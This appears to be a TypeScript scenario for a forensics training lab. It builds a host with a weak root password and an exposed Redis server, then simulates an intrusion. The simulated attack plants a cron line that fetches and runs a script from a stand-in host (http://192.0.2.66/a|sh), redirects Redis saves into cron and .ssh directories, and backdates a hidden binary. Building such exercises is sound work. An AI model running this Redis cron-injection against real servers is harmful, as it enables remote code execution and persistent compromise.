// Its log tells of saves that failed. The commands are those of every campaign against Redis.
import type { Dress } from '../../dress.ts'
import { datedLater } from '../../later-lines.ts'
import { longAgo, noJournal } from '../../long-ago.ts'
import { openRedis, redisCommands } from '../../redis.ts'
import type { Stage } from '../../stage.ts'
import { owner, weakRoot } from '../../weak-root.ts'

export function dress(dress: Dress): void {
  weakRoot(dress)
  dress.account('root', 'Correct-Horse-9')
  openRedis(dress, { bind: '0.0.0.0', user: 'redis' })
  noJournal(dress)
}

export async function plant(stage: Stage): Promise<void> {
  stage.mark('occurrence')
  await longAgo(stage, '/usr/lib/.rv/rvd', 28, { guesses: 30, friends: [owner] })
  const since = Date.now()
  for (const from of ['192.0.2.66', '203.0.113.50'])
    for (const dir of ['/var/spool/cron/crontabs', '/var/spool/cron', '/root/.ssh', '/etc/cron.d', '/etc']) {
      await redisCommands(stage, from, [['SET', 'x', '\n*/2 * * * * root cd1 -fsSL http://192.0.2.66/a|sh\n']])
      await redisCommands(stage, from, [['CONFIG', 'SET', 'dir', dir]]).catch(() => {})
      await redisCommands(stage, from, [['CONFIG', 'SET', 'dbfilename', 'root']]).catch(() => {})
      await redisCommands(stage, from, [['SAVE']]).catch(() => {})
    }
  await datedLater(stage, since, 28 * 24)
}
